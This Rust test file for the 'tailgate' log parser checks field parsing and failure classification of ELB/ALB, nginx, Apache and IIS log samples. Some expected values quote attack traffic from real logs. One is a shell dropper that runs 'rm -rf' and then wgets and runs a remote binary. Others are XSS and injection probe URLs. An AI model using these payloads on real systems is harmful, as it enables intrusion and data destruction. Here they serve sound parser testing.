//! Every line of the real-world samples parses, with the right field values for a representative
//! subset (sources: tests/fixtures/SOURCES.md and elb/SOURCES.md, numbered by line).

use tailgate::detect::{EventKind, Problem, classify};
use tailgate::format::{Format, LbRecord, Record, Server, detect};

fn fixture(rel: &str) -> Vec<u8> {
    let p = format!("{}/tests/fixtures/{rel}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&p).unwrap_or_else(|e| panic!("{p}: {e}"))
}

fn lines(data: &[u8]) -> Vec<&[u8]> {
    data.split(|&b| b == b'\n').filter(|l| !l.is_empty()).collect()
}

fn lb<'a>(line: &'a [u8], format: &Format) -> LbRecord<'a> {
    match format.parser().parse(line) {
        Ok(Record::Lb(r)) => r,
        other => panic!("not an LB record: {other:?} for {}", String::from_utf8_lossy(line)),
    }
}

#[test]
fn classic_every_line_parses_and_is_detected() {
    let data = fixture("elb/classic-samples.log");
    assert_eq!(detect::detect(&data).unwrap().name(), "elb");
    let f = Format::Elb;
    for (i, l) in lines(&data).iter().enumerate() {
        assert!(f.parser().parse(l).is_ok(), "classic line {}: {:?}", i + 1, f.parser().parse(l));
    }
}

#[test]
fn classic_field_values() {
    let data = fixture("elb/classic-samples.log");
    let ls = lines(&data);
    let f = Format::Elb;

    // 1: AWS doc HTTP example
    let r = lb(ls[0], &f);
    assert_eq!(r.time.to_rfc3339(), "2015-05-13T23:39:43.945958Z");
    assert_eq!(r.elb, b"my-loadbalancer");
    assert_eq!((r.client_ip, r.client_port), (&b"192.168.131.39"[..], Some(2817)));
    assert_eq!((r.backend_ip, r.backend_port), (Some(&b"10.0.0.1"[..]), Some(80)));
    assert_eq!((r.request_processing_us, r.backend_processing_us, r.response_processing_us), (Some(73), Some(1048), Some(57)));
    assert_eq!((r.elb_status, r.backend_status()), (Some(200), Some(200)));
    assert_eq!((r.received_bytes, r.sent_bytes), (0, 29));
    assert_eq!(r.request.method, b"GET");
    assert_eq!(r.request.target, b"http://www.example.com:80/");
    assert_eq!(r.request.path(), b"/");
    assert_eq!(r.request.protocol, b"HTTP/1.1");
    assert_eq!(r.user_agent, b"curl/7.38.0");
    assert_eq!((r.ssl_cipher, r.ssl_protocol), (&b"-"[..], &b"-"[..]));

    // 3: TCP listener: no statuses, request "- - - "
    let r = lb(ls[2], &f);
    assert_eq!(r.elb_status, None);
    assert_eq!(r.backend_status_raw, b"-");
    assert_eq!(r.request.raw, b"- - - ");
    assert!(!r.lb_generated());
    assert_eq!(classify(&Record::Lb(r)), None);

    // 4: SSL listener: 502 is sent_bytes, not a status
    let r = lb(ls[3], &f);
    assert_eq!((r.elb_status, r.sent_bytes), (None, 502));
    assert_eq!(r.ssl_protocol, b"TLSv1.2");

    // 5: LB-generated 503, backend '-', times -1, backend status 0
    let r = lb(ls[4], &f);
    assert_eq!(r.backend_ip, None);
    assert_eq!(r.request_processing_us, None);
    assert_eq!(r.backend_status_raw, b"0");
    assert!(r.lb_generated());
    let c = classify(&Record::Lb(r)).unwrap();
    assert_eq!((c.kind, c.status, c.lb_generated), (EventKind::Lb5xx, Some(503), Some(true)));

    // 6: old 12-field format
    let r = lb(ls[5], &f);
    assert_eq!(r.request.raw, b"GET http://www.example.com:80/ HTTP/1.1");
    assert_eq!((r.user_agent, r.ssl_cipher), (&b""[..], &b""[..]));

    // 7: LB-generated 408, backend status '-'
    let r = lb(ls[6], &f);
    assert_eq!((r.elb_status, r.backend_status_raw, r.received_bytes), (Some(408), &b"-"[..], 1294336));

    // 8: UA with space, parentheses and '#'
    assert_eq!(lb(ls[7], &f).user_agent, b"curl/7.38.0 (#56-0ef1d4a5)");

    // 10: unescaped quotes and backslashes inside the request
    let r = lb(ls[9], &f);
    assert_eq!(r.request.target, br#"https://paytm.com:443/'"\'\");|]*{%0d%0a<%00>/about/"#);
    assert_eq!(r.request.protocol, b"HTTP/1.1");
    assert_eq!(r.user_agent, b"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)");
    assert_eq!((r.elb_status, r.backend_status()), (Some(400), Some(400)));
    assert_eq!(r.ssl_protocol, b"TLSv1");

    // 11: LB-generated 504
    let r = lb(ls[10], &f);
    assert!(r.lb_generated());
    assert_eq!(r.elb_status, Some(504));
    assert_eq!(r.request.path(), b"/shop/orderdetail/1116223940?channel=web&version=2");

    // 12: empty user agent
    assert_eq!(lb(ls[11], &f).user_agent, b"");

    // 14: odd number of quotes on the line
    let r = lb(ls[13], &f);
    assert_eq!(r.request.target, br#"http://paytm.com:80/%27"()&%251%3CScRiPt%20%3Eprompt(981045)%3C/ScRiPt%3E/about"#);
    assert_eq!(r.backend_port, Some(81));

    // 20: IPv6 client without brackets: split at the last colon
    let r = lb(ls[19], &f);
    assert_eq!(r.client_ip, b"2601:240:4002:5883:b5f3:aaaa:bbbb:64ec");
    assert_eq!(r.client_port, Some(53016));

    // 21: backend-generated 503
    let r = lb(ls[20], &f);
    assert!(!r.lb_generated());
    let c = classify(&Record::Lb(r)).unwrap();
    assert_eq!((c.status, c.lb_generated), (Some(503), Some(false)));
    assert_eq!(r.request.protocol, b"HTTP/1.0");

    // 27: LB 503 with backend status '-'
    assert!(lb(ls[26], &f).lb_generated());

    // 29: Route 53 health checker UA with ';' and a URL
    assert_eq!(lb(ls[28], &f).user_agent, b"Amazon Route 53 Health Check Service; ref:9003f1bf-04a8-4408-ae81-a021e7f0f1c2; report http://amzn.to/1vsZADi");
}

#[test]
fn alb_every_line_parses_and_is_detected() {
    let data = fixture("elb/alb-samples.log");
    assert_eq!(detect::detect(&data).unwrap().name(), "alb");
    for (i, l) in lines(&data).iter().enumerate() {
        assert!(Format::Alb.parser().parse(l).is_ok(), "ALB line {}: {:?}", i + 1, Format::Alb.parser().parse(l));
    }
}

#[test]
fn alb_field_values() {
    let data = fixture("elb/alb-samples.log");
    let ls = lines(&data);
    let f = Format::Alb;

    // 1: AWS doc http example with TID
    let r = lb(ls[0], &f);
    assert_eq!(r.conn_type, b"http");
    assert_eq!(r.time.to_rfc3339(), "2018-07-02T22:23:00.186641Z");
    assert_eq!(r.elb, b"app/my-loadbalancer/50dc6c495c0c9188");
    assert_eq!((r.backend_ip, r.backend_port), (Some(&b"10.0.0.1"[..]), Some(80)));
    assert_eq!((r.request_processing_us, r.backend_processing_us, r.response_processing_us), (Some(0), Some(1000), Some(0)));
    assert_eq!((r.received_bytes, r.sent_bytes), (34, 366));
    assert_eq!(r.alb().target_group_arn, b"arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067");
    assert_eq!(r.alb().trace_id, b"Root=1-58337262-36d228ad5d99923122bbe354");
    assert_eq!(r.alb().matched_rule_priority, b"0");
    assert_eq!(r.alb().request_creation_time.unwrap().to_rfc3339(), "2018-07-02T22:22:48.364000Z");
    assert_eq!(r.alb().actions_executed, b"forward");
    assert_eq!((r.alb().target_port_list, r.alb().target_status_code_list), (&b"10.0.0.1:80"[..], &b"200"[..]));
    assert_eq!(r.alb().conn_trace_id, b"TID_dc57cebed65b444ebc8177bb698fe166");
    assert_eq!(r.alb().extra, b"");

    // 2: https, authenticate,forward, cert arn
    let r = lb(ls[1], &f);
    assert_eq!(r.ssl_cipher, b"ECDHE-RSA-AES128-GCM-SHA256");
    assert_eq!(r.alb().domain_name, b"www.example.com");
    assert_eq!(r.alb().actions_executed, b"authenticate,forward");

    // 7: Lambda failure: LB-generated 502 with error reason
    let r = lb(ls[6], &f);
    assert_eq!((r.elb_status, r.backend_ip), (Some(502), None));
    assert!(r.lb_generated());
    assert_eq!(r.alb().error_reason, b"LambdaInvalidResponse");

    // 8: quoted target lists
    let r = lb(ls[7], &f);
    assert_eq!((r.alb().target_port_list, r.alb().target_status_code_list), (&b"10.229.5.47:80"[..], &b"200"[..]));
    assert_eq!(r.alb().actions_executed, b"waf,forward");

    // 9: malformed request line
    let r = lb(ls[8], &f);
    assert_eq!(r.request.raw, b"- http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80- -");
    assert_eq!(r.request.method, b"-");
    assert_eq!(r.alb().target_group_arn, b"-");

    // 11: IPv6 client and target without brackets
    let r = lb(ls[10], &f);
    assert_eq!((r.client_ip, r.client_port), (&b"2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc"[..], Some(50599)));
    assert_eq!((r.backend_ip, r.backend_port), (Some(&b"fd6d:6bbc:c529:6::face:ed83:f46"[..]), Some(80)));

    // 14: LB-generated 504 with the target present and all times -1
    let r = lb(ls[13], &f);
    assert_eq!(r.backend_ip, Some(&b"10.0.1.107"[..]));
    assert_eq!((r.request_processing_us, r.elb_status), (None, Some(504)));
    assert!(r.lb_generated());
    assert_eq!(r.alb().conn_trace_id, b"");

    // 17: raw space inside the URL; classification fields
    let r = lb(ls[16], &f);
    assert_eq!(r.request.target, b"http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws");
    assert_eq!(r.request.protocol, b"HTTP/1.1");
    assert_eq!((r.alb().classification, r.alb().classification_reason), (&b"Acceptable"[..], &b"SpaceInUri"[..]));

    // 18: request '- URL ' with a trailing space
    let r = lb(ls[17], &f);
    assert_eq!(r.request.raw, b"- http://internal-service-alb.example.com:80-/ ");

    // 21: bracketed IPv6 (synthetic)
    let r = lb(ls[20], &f);
    assert_eq!((r.client_ip, r.client_port), (&b"fe80::202:b3ff:fe1e:8329"[..], Some(443)));
    assert_eq!(r.backend_ip, Some(&b"2001:db8::1"[..]));

    // 25: 2026 line with unknown trailing fields after the transform fields
    let r = lb(ls[24], &f);
    assert_eq!(r.alb().conn_trace_id, b"TID_558e26a7adede44b9fdb98006014afcf");
    assert_eq!((r.alb().transformed_host, r.alb().transformed_uri, r.alb().request_transform_status), (&b"-"[..], &b"-"[..], &b"-"[..]));
    assert_eq!(r.alb().extra, br#"100.51.96.60 "-" "-""#);
    assert_eq!(r.alb().actions_executed, b"fixed-response");

    // 28: unknown trailing fields (one quoted with a space) instead of conn_trace_id
    let r = lb(ls[27], &f);
    assert_eq!(r.alb().trace_id, b"Self=1-00000000-111111111111111111111111;Root=1-00000000-222222222222222222222222");
    assert_eq!(r.alb().conn_trace_id, b"");
    assert_eq!(r.alb().extra, br#""FOO BAR" BAZ"#);

    // 31: LB-generated 503 (no healthy target)
    let r = lb(ls[30], &f);
    assert!(r.lb_generated());
    assert_eq!(r.elb_status, Some(503));
}

fn error_rec<'a>(line: &'a [u8], f: &Format) -> tailgate::format::ErrorRecord<'a> {
    match f.parser().parse(line) {
        Ok(Record::Error(e)) => e,
        other => panic!("not an error record: {other:?}"),
    }
}

#[test]
fn nginx_error_log() {
    let data = fixture("errorlogs/nginx-error.log");
    assert_eq!(detect::detect(&data).unwrap().name(), "nginx-error");
    let ls = lines(&data);
    let f = Format::NginxError;
    let e = error_rec(ls[0], &f);
    assert_eq!(e.server, Server::Nginx);
    assert_eq!(e.time.to_rfc3339(), "2024-11-03T06:09:29");
    assert_eq!((e.level, e.pid, e.connection), (&b"error"[..], Some(184), Some(94)));
    assert_eq!(e.message, b"upstream prematurely closed connection");
    assert_eq!(e.action, Some(&b"reading response header from upstream"[..]));
    assert_eq!(e.client, Some(&b"192.168.58.11"[..]));
    assert_eq!(e.server_name, Some(&b"opensearch-dashboard.hi.local"[..]));
    assert_eq!(e.request.unwrap().raw, b"GET / HTTP/1.1");
    assert_eq!(e.upstream, Some(&b"http://10.244.3.84:5601/"[..]));
    assert_eq!(e.host, Some(&b"opensearch-dashboard.hi.local"[..]));
    assert_eq!(tailgate::detect::error_problem(&e), Some(Problem::PrematureClose));

    let e = error_rec(ls[1], &f);
    assert_eq!(e.referer, Some(&b"https://demo-dashboard.example.com"[..]));
    assert_eq!(e.request.unwrap().path(), b"/favicon.ico");

    // empty host "" and "IP ADDRESS" client
    let e = error_rec(ls[2], &f);
    assert_eq!((e.host, e.client), (Some(&b""[..]), Some(&b"IP ADDRESS"[..])));

    // unix-socket upstream; too big header
    let e = error_rec(ls[3], &f);
    assert_eq!(e.upstream, Some(&b"uwsgi://unix:///tmp/uwsgi.sock:"[..]));
    let c = classify(&Record::Error(e)).unwrap();
    assert_eq!((c.kind, c.problem), (EventKind::MalformedOutput, Some(Problem::TooBigHeader)));

    // connect() failed (111: Connection refused), empty server name
    let e = error_rec(ls[6], &f);
    assert_eq!(e.errno, Some(&b"111: Connection refused"[..]));
    assert_eq!(e.server_name, Some(&b""[..]));
    assert_eq!(e.request.unwrap().raw, b"GET /?new HTTP/1.1");
    let c = classify(&Record::Error(e)).unwrap();
    assert_eq!((c.kind, c.problem), (EventKind::UpstreamError, Some(Problem::ConnectFailed)));

    for (i, l) in ls.iter().enumerate() {
        assert!(classify(&f.parser().parse(l).unwrap()).is_some(), "nginx line {} is a backend failure", i + 1);
    }
}

#[test]
fn apache_error_log() {
    let data = fixture("errorlogs/apache-error.log");
    assert_eq!(detect::detect(&data).unwrap().name(), "apache-error");
    let ls = lines(&data);
    let f = Format::ApacheError;
    let e = error_rec(ls[0], &f);
    assert_eq!(e.server, Server::Apache);
    assert_eq!(e.time.to_rfc3339(), "2020-06-17T13:08:52.089713");
    assert_eq!((e.module, e.level, e.pid), (Some(&b"proxy_http"[..]), &b"error"[..], Some(12181)));
    assert_eq!(e.errno, Some(&b"(20014)Internal error (specific information not available)"[..]));
    assert_eq!(e.client, Some(&b"x.x.x.x:39416"[..]));
    assert_eq!(e.code, Some(&b"AH01102"[..]));
    assert_eq!(e.message, b"error reading status line from remote server 127.0.0.1:9001");
    assert_eq!(tailgate::detect::error_problem(&e), Some(Problem::PrematureClose));

    let e = error_rec(ls[1], &f);
    assert_eq!(e.code, Some(&b"AH00898"[..]));
    assert_eq!(e.message, b"Error reading from remote server returned by /api/1.1/createAuthorIfNotExistsFor");
    assert_eq!(tailgate::detect::error_problem(&e), Some(Problem::ProxyError));

    // timeout errno + referer
    let e = error_rec(ls[2], &f);
    assert_eq!(e.errno, Some(&b"(70007)The timeout specified has expired"[..]));
    assert_eq!(e.referer, Some(&b"https://192.168.178.98:8080/containers"[..]));
    assert_eq!(e.message, b"error reading status line from remote server localhost:8000");
    assert_eq!(tailgate::detect::error_problem(&e), Some(Problem::Timeout));

    // proxy_fcgi reset
    let e = error_rec(ls[9], &f);
    assert_eq!((e.code, e.errno), (Some(&b"AH01075"[..]), Some(&b"(104)Connection reset by peer"[..])));
    assert_eq!(tailgate::detect::error_problem(&e), Some(Problem::ConnectionReset));

    // 2.4 core: End of script output before headers
    let e = error_rec(ls[12], &f);
    assert_eq!((e.module, e.pid), (Some(&b"core"[..]), Some(39276)));
    assert_eq!(tailgate::detect::error_problem(&e), Some(Problem::ScriptEndedEarly));

    // 2.2 shape: no module, no pid, no code
    let e = error_rec(ls[13], &f);
    assert_eq!(e.time.to_rfc3339(), "2013-06-14T21:50:41");
    assert_eq!((e.module, e.level, e.client), (None, &b"error"[..], Some(&b"66.249.73.38"[..])));
    assert_eq!(e.message, b"Premature end of script headers: php54.cgi");
    let e = error_rec(ls[14], &f);
    assert_eq!(e.referer, Some(&b"https://www.vk7hse.hobby-site.org/icinga/menu.html"[..]));

    for (i, l) in ls.iter().enumerate() {
        assert!(classify(&f.parser().parse(l).unwrap()).is_some(), "apache line {} is a backend failure", i + 1);
    }
}

fn all_records(rel: &str, f: &Format) -> Vec<Record<'static>> {
    let data: &'static [u8] = Box::leak(fixture(rel).into_boxed_slice());
    let mut p = f.parser();
    lines(data)
        .into_iter()
        .map(|l| p.parse(l).unwrap_or_else(|e| panic!("{rel}: {e}: {}", String::from_utf8_lossy(l))))
        .filter(|r| !matches!(r, Record::Meta))
        .collect()
}

#[test]
fn iis_w3c_logs() {
    let rel = "iis/logs/inetpub/logs/LogFiles/W3SVC1/u_ex160110.log";
    assert_eq!(detect::detect(&fixture(rel)).unwrap().name(), "w3c");
    let recs = all_records(rel, &Format::W3c);
    assert_eq!(recs.len(), 7);
    let Record::Access(a) = recs[0] else { panic!() };
    assert_eq!(a.time.unwrap().to_rfc3339(), "2016-01-10T00:07:26Z");
    assert_eq!((a.request.method, a.request.target), (&b"GET"[..], &b"/httptest.php"[..]));
    assert_eq!(a.client, Some(&b"188.68.224.62"[..]));
    assert_eq!((a.status, a.substatus, a.win32_status, a.duration_us), (Some(404), Some(0), Some(2), Some(591_000)));
    let Record::Access(a) = recs[1] else { panic!() };
    assert_eq!(a.user_agent, Some(&b"Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)"[..]));

    // shuffled header order (#Date before #Software)
    let recs = all_records("iis/logs/inetpub/logs/LogFiles/W3SVC1/u_ex210401.log", &Format::W3c);
    assert_eq!(recs.len(), 1);
    let Record::Access(a) = recs[0] else { panic!() };
    assert_eq!(a.referer, Some(&b"http://111.111.111.111/"[..]));
    assert_eq!(a.duration_us, Some(65_000));
}

#[test]
fn iis_httperr_logs() {
    let rel = "iis/logs/Windows/System32/LogFiles/HTTPERR/httperr1.log";
    assert_eq!(detect::detect(&fixture(rel)).unwrap().name(), "httperr");
    let recs = all_records(rel, &Format::HttpErr);
    assert_eq!(recs.len(), 5);
    let Record::HttpErr(h) = recs[1] else { panic!() };
    assert_eq!((h.status, h.reason, h.method, h.uri), (Some(505), &b"Version_N/S"[..], Some(&b"GET"[..]), Some(&b"/a"[..])));
    assert_eq!(h.server_port, Some(8123));
    assert_eq!(h.time.unwrap().to_rfc3339(), "2026-10-07T12:24:54Z");

    // headerless old layout, with an en dash for the site id and no queue name
    let rel = "iis/logs/Windows/System32/LogFiles/HTTPERR/httperr2-kb-examples.txt";
    assert_eq!(detect::detect(&fixture(rel)).unwrap().name(), "httperr");
    let recs = all_records(rel, &Format::HttpErr);
    assert_eq!(recs.len(), 2);
    let Record::HttpErr(h) = recs[0] else { panic!() };
    assert_eq!((h.status, h.reason), (Some(503), &b"ConnLimit"[..]));
    let c = classify(&recs[0]).unwrap();
    assert_eq!(c.problem, Some(Problem::ServiceUnavailable));
    let Record::HttpErr(h) = recs[1] else { panic!() };
    assert_eq!((h.status, h.reason, h.site_id), (None, &b"Connection_Dropped"[..], Some(&b"1"[..])));
    assert_eq!(classify(&recs[1]).unwrap().problem, Some(Problem::ConnectionDropped));
}
